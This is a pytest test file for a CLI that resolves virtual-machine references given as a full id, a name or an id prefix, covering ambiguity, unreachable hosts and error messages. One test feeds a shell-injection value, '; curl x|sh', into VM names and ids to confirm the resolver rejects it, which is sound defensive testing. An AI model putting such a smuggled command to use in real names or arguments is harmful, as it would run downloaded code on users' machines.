"""Which VM is meant by an id, a name, or the beginning of an id."""

import pytest

from aetherscale_cli.errors import CliError, Exit
from aetherscale_cli.resolve import Found, UnknownVm, find_each, resolve
from aetherscale_protocol import names
from aetherscale_testing.session import MemorySession, refusal, vm

WEB1 = names.id_of_name("web1")
WEB = names.id_of_name("web")
WEBFRONT = names.id_of_name("webfront")


def fails(session: MemorySession, token: str) -> CliError:
    with pytest.raises(CliError) as caught:
        resolve(session, [token], 5)
    return caught.value


@pytest.mark.parametrize("token", ["web1", "web-a", "webserver", "1", "a-very-long-name-indeed"])
def test_what_can_be_no_id_is_a_name_and_costs_no_question(token: str) -> None:
    session = MemorySession({"h1": []})
    assert resolve(session, [token], 5) == [Found(names.id_of_name(token), token)]
    assert session.asked == []


def test_eight_letters_are_an_id_if_somebody_holds_it() -> None:
    session = MemorySession({"h1": [vm("webfront"), vm(WEBFRONT, name="webfront")]})
    assert resolve(session, ["webfront"], 5) == [Found("webfront")]


def test_eight_letters_that_nobody_holds_are_a_name() -> None:
    session = MemorySession({"h1": [vm(WEBFRONT, name="webfront")]})
    assert resolve(session, ["webfront"], 5) == [Found(WEBFRONT, "webfront")]


def test_eight_letters_that_are_neither() -> None:
    error = fails(MemorySession({"h1": []}), "webfront")
    assert isinstance(error, UnknownVm)
    assert str(error) == "VM webfront does not exist"


def test_eight_letters_are_taken_for_an_id_without_asking_where_the_command_itself_will_tell() -> None:
    session = MemorySession({"h1": []})
    assert find_each(session, ["webfront"], 5) == [Found("webfront")]
    assert session.asked == []


def test_few_letters_are_a_name_first() -> None:
    session = MemorySession({"h1": [vm(WEB, name="web"), vm("webxxxxx")]})
    assert resolve(session, ["web"], 5) == [Found(WEB, "web")]
    assert session.asked == [(f"vm.{WEB}", "show-vm", {"vm-id": WEB, "console-lines": 0})]


def test_few_letters_are_the_name_of_a_vm_whose_host_is_down() -> None:
    session = MemorySession({"h1": [vm("webxxxxx")]}, down={"h2": [WEB]})
    assert resolve(session, ["web"], 5) == [Found(WEB, "web")]


def test_few_letters_are_the_beginning_of_an_id_of_whatever_host() -> None:
    session = MemorySession({"h1": [vm("bbbbbbbb")], "h2": [vm("abcdefgh", name="db1")]})
    assert resolve(session, ["ab", "b"], 5) == [Found("abcdefgh", "db1"), Found("bbbbbbbb")]
    assert session.commands.count("list-vms") == 1


def test_what_can_be_no_id_or_no_name_is_none_whoever_says_so() -> None:
    """Hints have both in commands, which are copied into shells."""
    evil = "; curl x|sh"
    session = MemorySession({"h1": [vm("abcdefgh", name=f"web{evil}"), vm(f"ac{evil}")]})
    assert resolve(session, ["ab"], 5) == [Found("abcdefgh")]
    assert isinstance(fails(session, "ac"), UnknownVm)


def test_an_ambiguous_beginning_names_the_candidates() -> None:
    session = MemorySession({"h1": [vm("abcdefgh", name="web1"), vm("abzzzzzz")]})
    error = fails(session, "ab")
    assert str(error) == "ab is the beginning of 2 VM ids: abcdefgh (web1), abzzzzzz"
    assert error.exit_code is Exit.FAILED


def test_a_beginning_of_nothing() -> None:
    assert str(fails(MemorySession({"h1": [vm("abcdefgh")]}), "x")) == "VM x does not exist"


@pytest.mark.parametrize("vms", [[], [vm("abcdefgh")]])
def test_while_a_host_is_missing_no_beginning_is_sure(vms: list[object]) -> None:
    error = fails(MemorySession({"h1": vms}, down={"h2": []}), "ab")  # type: ignore[dict-item]
    assert "h2 did not answer, and ab may be the beginning of the id of a VM there" in str(error)
    assert error.exit_code is Exit.PARTIAL


def test_what_is_ambiguous_already_is_so_whatever_the_missing_host_has() -> None:
    session = MemorySession({"h1": [vm("abcdefgh"), vm("abzzzzzz")]}, down={"h2": []})
    assert "2 VM ids" in str(fails(session, "ab"))


def test_one_that_is_unknown_does_not_keep_the_others_from_being_found() -> None:
    session = MemorySession({"h1": [vm("abcdefgh")]})
    found = find_each(session, ["ab", "x", "web1"], 5)
    assert found[0] == Found("abcdefgh")
    assert isinstance(found[1], UnknownVm)
    assert found[2] == Found(WEB1, "web1")


def test_a_host_that_says_that_there_is_no_such_vm_is_believed() -> None:
    gone = refusal("vm-unknown", "VM does not exist")
    session = MemorySession(
        {"h1": [vm(WEB), vm("webxxxxx")]}, behave=lambda _h, command, _o: gone if command == "show-vm" else {}
    )
    assert resolve(session, ["webx"], 5) == [Found("webxxxxx")]


def test_a_holder_that_is_silent_holds_it_nevertheless() -> None:
    session = MemorySession({"h1": [vm(WEB)]}, behave=lambda *_: None)
    assert resolve(session, ["web"], 5) == [Found(WEB, "web")]
